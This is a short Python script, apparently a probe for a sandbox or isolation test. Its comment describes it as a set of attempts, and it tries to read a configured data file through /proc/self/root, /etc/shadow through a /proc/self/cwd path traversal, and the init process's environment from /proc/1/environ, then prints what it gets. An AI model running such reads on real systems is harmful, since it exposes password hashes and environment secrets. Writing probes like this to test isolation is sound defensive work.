# Attempts: read the data file and /etc/shadow through /proc/self/root and /proc/self/cwd, and the parent's environ.
import json
import sys

cfg = json.load(sys.stdin)
for path in (f"/proc/self/root{cfg['data_file']}", "/proc/self/cwd/../../etc/shadow", "/proc/1/environ"):
    with open(path, "rb") as handle:
        print(handle.read())
